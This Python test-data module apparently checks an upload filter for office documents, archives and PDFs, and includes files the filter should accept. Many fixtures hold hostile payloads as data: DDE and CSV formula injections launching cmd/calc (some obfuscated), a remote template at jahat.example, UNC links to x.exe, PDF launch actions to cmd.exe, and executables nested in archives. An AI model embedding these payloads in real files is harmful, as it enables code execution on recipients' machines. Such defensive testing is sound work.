"""The same dangers spelt otherwise or put somewhere else, and harmless files that look like them."""

import bz2
import gzip
import tarfile
from functools import partial
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.documents import ole_files as ole
from tests.documents import programs as made
from tests.documents.name_rows import UNOPENED, called, within
from tests.documents.office_rows import DDE, FOREIGN, LAUNCH, LINKED, MACROS, docx, template, xlsx
from tests.documents.rows import Row, refused, taken
from tests.documents.strange_files import EXE, PDF, packed

PROGRAM = "tidak diterima karena isinya program"
OFFICE = "application/vnd.openxmlformats-officedocument."
COMMAND = made.field("DDEAUTO cmd x")
LINKS = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
RAR = b"Rar!\x1a\x07\x01\0" + bytes(99)
RAW = b"II*\0\x10\0\0\0CR\2\0" + bytes(99)


def moved(place: str) -> bytes:
    """A .docx whose text stands elsewhere, with a field that starts a program."""
    base = made.relations("officeDocument", place).replace(b' TargetMode="External"', b"")
    kinds = f'<Types><Override PartName="/{place}" ContentType="{OFFICE}wordprocessingml.document.main+xml"/></Types>'
    return packed({"[Content_Types].xml": kinds.encode(), "_rels/.rels": base, place: COMMAND})


def cell(formula: bytes) -> partial[bytes]:
    """An .xlsx with this formula, as it stands in the file."""
    return xlsx(xl__worksheets__sheet1_dot_xml=b"<worksheet><c r='A1'>%s</c></worksheet>" % formula)


def sheet_of_libreoffice(content: str) -> partial[bytes]:
    return partial(made.open_document, "spreadsheet", content.encode())


def csv(cell: str) -> Row:
    return refused("Rekap.csv", f"Nama;Nilai\nAni;{cell}\n".encode, DDE)


def tar(**files: bytes) -> bytes:
    """An archive of Linux; `_dot_` for a dot."""
    with tarfile.open(fileobj=(out := BytesIO()), mode="w") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name.replace("_dot_", "."))
            entry.size = len(content)
            archive.addfile(entry, BytesIO(content))
    return out.getvalue()


def native(flags: bytes, content: bytes) -> bytes:
    """An object as another program may have written it."""
    plain = ole.packaged("Lampiran.pdf", content)
    return ole.container({"\x01Ole10Native": plain[:4] + flags + plain[6:]})


def with_a_form(pdf: pikepdf.Pdf) -> None:
    pieces = [pdf.make_stream(one) for one in (b"<xdp:xdp><template><event><scr", b'ipt contentType="x"/>')]
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Array([made.text("a"), pieces[0], made.text("b"), pieces[1]])
    )


def open_document(kind: str) -> partial[bytes]:
    return partial(made.open_document, kind)


MOVED = [
    *(
        refused("Surat.docx", partial(moved, one), DDE)
        for one in ("foo/doc.xml", "word/sub/doc.xml", "word/document.foo")
    ),
    refused("Surat.docx", docx(word__glosarium__a_dot_xml=COMMAND.decode().encode("utf-16")), DDE),
    *(
        refused("Rekap.xlsx", partial(lambda one: made.with_parts(made.openpyxl_book(), **{one: LINKS}), one), DDE)
        for one in ("xl/el1.xml", "xl/externalLinks/sub/e.xml", "Data")
    ),
    refused("Rekap.xlsx", xlsx(xl__sheets__s_dot_xml=b"<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"), DDE),
    refused("Rekap.xlsx", xlsx(xl__workbook_dot_xml=b"<a><definedName>cmd|'/c calc'!A0</definedName></a>"), DDE),
    refused("Rekap.xlsx", xlsx(xl__worksheets__sheet9_dot_xml=b"<xm:macrosheet xmlns:xm='x'/>"), MACROS),
    refused(
        "Rekap.xlsx",
        xlsx(xl___rels__workbook_dot_xml_dot_rels=made.relations("xlMacrosheet", "worksheets/sheet9.xml")),
        MACROS,
    ),
    refused(
        "Rekap.xlsx",
        lambda: made.with_parts(
            made.openpyxl_book(),
            **{"[Content_Types].xml": b'<Types><Override ContentType="application/x.macrosheet+xml"/></Types>'},
        ),
        MACROS,
    ),
    taken("Gambar.xlsx", xlsx(xl__drawings__a_dot_vml=b"<xml><v:textbox><br></v:textbox></xml>"), "xlsx"),
    taken("Gambar.docx", docx(word__media__a_dot_svg=b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'), "docx"),
    taken("Rekap.zip", lambda: packed({"Basic/Modul.pdf": PDF, "data.xml": b"<a><br></a>"}), "zip"),
]

SPELT = [
    *(
        refused("Rekap.xlsx", cell(one), DDE)
        for one in (
            b"<f>cmd&#124;'/c calc'!A0</f>",
            b"<f><![CDATA[cmd|'/c calc'!A0]]></f>",
            b"<f>cmd|&#x27;/c calc&#x27;!A0</f>",
            b"<f>cmd<!-- -->|'/c calc'!A0</f>",
            b"<f>'cmd'|'/c calc'!A0</f>",
            b"<f>cmd|calc!A0</f>",
            rb"<f>EXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!A0</f>",
            b"<f>EXCEL|'C:\\Windows\\cmd.exe'!A0</f>",
            b'<f>DDE("cmd";"/c calc";"A0")</f>',
        )
    ),
    *(
        refused("Rekap.ods", sheet_of_libreoffice(one), DDE)
        for one in (
            "<a office:dde-application='cmd'/>",
            '<a table:formula=\'of:=DDE("cmd";"/c calc";"A")\'/>',
            '<a table:formula="of:=DDE(&#34;cmd&#34;;&#34;/c&#34;;&#34;A&#34;)"/>',
            '<a table:formula="of:=DDE(A1;A2;A3)"/>',
        )
    ),
    refused("Rekap.ods", sheet_of_libreoffice('<a xlink:href="vnd.sun&#46;star.script:a.py$b"/>'), MACROS),
    refused(
        "Paparan.pptx",
        partial(made.slides, ppt__slides__a_dot_xml='<a action="ppaction://program"/>'.encode("utf-16")),
        LAUNCH,
    ),
    refused(
        "Paparan.pptx", partial(made.slides, ppt__slides__a_dot_xml=b'<a action="ppaction://pro&#103;ram"/>'), LAUNCH
    ),
    csv("='cmd'|'/c calc'!A0"),
    csv("=cmd|calc!A0"),
    csv(r"=EXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!A0"),
    csv("\"=1+\ncmd|'/c calc'!A0\""),
    csv("=" + "1+" * 900 + "cmd|'/c calc'!A0"),
    refused("Surat.doc", lambda: rb"{\rtf1 {\field{\*\fldinst {\b D}{\'44E}{AUTO cmd x}}}}", DDE),
    refused("Laporan.docx", template("ht&#9;tp://jahat.example/a.dotm"), FOREIGN),
    *(
        refused("Laporan.docx", docx(word___rels__a_dot_xml_dot_rels=made.relations(kind, target)), LINKED)
        for kind, target in (("oleObject", r"\\jahat\s\x.exe"), ("package", r"file:///\\jahat\x.xls"))
    ),
]

HARMLESS = [
    *(
        taken("Rekap.xlsx", partial(made.openpyxl_formula, one), "xlsx")
        for one in (
            '="Realisasi | \'"&A1&"\'"',
            '=A1&" |\'"',
            '=IF(B2="a|\'b",1,2)',
            "='A|B'!C1",
            "=SUM(T[Ya | Tidak])",
        )
    ),
    taken("Notulen.txt", lambda: b"Hadir:\n- Andi | 'hadir'\n", "txt"),
    taken("Kontak.csv", lambda: b"+62 811 | 'kantor'\n", "csv"),
    taken("Notulen.txt", lambda: b"- Ya|Tidak! Lalu apa\n", "txt"),
    taken("Rekap.ods", sheet_of_libreoffice('<a table:formula="of:=CONCATENATE(&quot;DDE(&quot;;A1)"/>'), "ods"),
    taken("Rekap.xlsx", cell(b"<f>EXCEL|'C:\\Data\\[Rekap.xls]TW'!A0</f>"), "xlsx"),
    refused("Surat.rtf", lambda: b"{\\rtf1 Surat DDE tentang rapat}", "adalah dokumen RTF"),
]

INSIDE = [
    refused("Semua.zip", lambda: packed({"a.tar": tar(x=EXE)}), within("a.tar › x") + PROGRAM),
    refused("Semua.zip", lambda: packed({"a.gz": gzip.compress(b"") + gzip.compress(EXE)}), PROGRAM),
    refused("Semua.zip", lambda: packed({"a.tgz": gzip.compress(tar(x=EXE))}), within("a.tgz › x") + PROGRAM),
    refused(
        "Semua.zip", lambda: packed({"a.tar": tar(b_dot_rar=RAR)}), within("a.tar › b.rar") + "adalah arsip .rar"
    ),
    refused("Semua.zip", lambda: packed({"a.rar": RAR}), within("a.rar") + "adalah arsip .rar, " + UNOPENED),
    refused("Semua.zip", lambda: packed({"a": b"7z\xbc\xaf\x27\x1c" + bytes(9)}), "adalah arsip .7z, " + UNOPENED),
    refused("Semua.zip", lambda: packed({"a.cab": b"MSCF" + bytes(99)}), "adalah arsip .cab, " + UNOPENED),
    refused("Semua.zip", lambda: packed({"a.bz2": bz2.compress(EXE)}), "adalah arsip .bz2, " + UNOPENED),
    refused("Laporan.docx", docx(word__a_dot_bin=ole.an_object("a.rar", RAR)), "adalah arsip .rar, " + UNOPENED),
    refused("Lampiran.pdf", lambda: made.pdf(made.attaching("a.rar", RAR)), "adalah arsip .rar, " + UNOPENED),
    taken("Semua.zip", lambda: packed({"a.tar": tar(Draf_dot_pdf=PDF), "b.gz": gzip.compress(PDF)}), "zip"),
    taken("Gambar.docx", docx(word__media__a_dot_emz=gzip.compress(b"\1\0\0\0 EMF")), "docx"),
    refused("Arsip.tar", lambda: tar(Draf_dot_pdf=PDF), "adalah arsip .tar; jenis itu tidak diterima"),
    *(
        refused("Laporan.docx", docx(word__a_dot_bin=native(flags, EXE)), PROGRAM)
        for flags in (b"\3\0", b"\0\0", b"\2\1")
    ),
    refused("Laporan.docx", docx(word__a_dot_bin=ole.container({"\x01Ole10Native": bytes(4) + EXE})), PROGRAM),
    taken(
        "Laporan.docx", docx(word__a_dot_bin=ole.container({"\x01Ole10Native": bytes(4) + b"\x1c\0\0\0x"})), "docx"
    ),
]

NAMED = [
    *(
        taken(one, made.pdf, "pdf", f"{one}.pdf")
        for one in ("KemenPAN.RB", "Andi M.Pl", "e-kinerja.app", "Perintah.Run")
    ),
    refused("Laporan.exe", made.pdf, called("exe", "PDF")),
    refused("Semua.zip", lambda: packed({"Andi, M.Com": PDF}), within("Andi, M.Com") + called("com", "PDF")),
    refused("Laporan.docx", docx(word__a_dot_bin=ole.an_object("Andi, M.Com", PDF)), called("com", "PDF")),
    refused("Lampiran.pdf", lambda: made.pdf(made.attaching("Andi, M.Com", PDF)), called("com", "PDF")),
    *(
        refused(f"x.{one}", lambda: b"x", called(one, "teks"))
        for one in ["msu", "ps1xml", "rdp", "wsb", "appinstaller", "xbap", "accde", "mde", "csh", "ksh"]
    ),
    taken("Surat.ott", open_document("text-template"), "odt"),
    taken("Rekap.ots", open_document("spreadsheet-template"), "ods"),
    taken("Paparan.otp", open_document("presentation-template"), "odp"),
    taken("t.odt", open_document("text-template"), "odt"),
    refused("Denah.odg", open_document("graphics"), "adalah gambar LibreOffice (.odg); jenis itu tidak diterima"),
    refused("Data.odb", open_document("base"), "adalah berkas LibreOffice; jenis itu tidak diterima"),
    refused(
        "Peta.kmz",
        lambda: packed({"doc.kml": b"<kml/>"}),
        "X tidak diterima kantor ini.",
    ),
    refused("Surat.pages", lambda: packed({"Index/Document.iwa": b"\0"}), "X tidak diterima kantor ini."),
    taken("pindaian.tif", partial(made.picture, "TIFF", big_tiff=True), "tif"),
    taken("pindaian.tif", lambda: b"MM\0+\0\x08" + bytes(99), "tif"),
    refused("IMG_1.CR2", lambda: RAW, "X tidak diterima kantor ini."),
    refused("IMG_1.NEF", partial(made.picture, "TIFF"), "X tidak diterima kantor ini."),
]

PDFS = [
    taken("Formulir.pdf", lambda: made.pdf(with_a_form), "pdf", active="javascript"),
    refused(
        "Tautan.pdf",
        lambda: made.pdf(made.tapping(S=Name.URI, URI=made.text("file:///c:/windows/system32/cmd.exe"))),
        LAUNCH,
    ),
    taken(
        "Tautan.pdf",
        lambda: made.pdf(made.tapping(S=Name.URI, URI=made.text("file:///c:/a.pdf"))),
        "pdf",
        active="launch",
    ),
    *(
        refused("Tautan.pdf", partial(lambda one: made.pdf(made.tapping(**one)), one), LAUNCH)
        for one in (
            {"S": Name.GoToE, "F": made.text("x.exe")},
            {"S": Name.GoToE, "T": Dictionary(R=Name.C, N=made.text("x.exe"))},
            {"S": Name.GoToR, "F": made.text("x.exe")},
        )
    ),
]

ROWS = [*MOVED, *SPELT, *HARMLESS, *INSIDE, *NAMED, *PDFS]
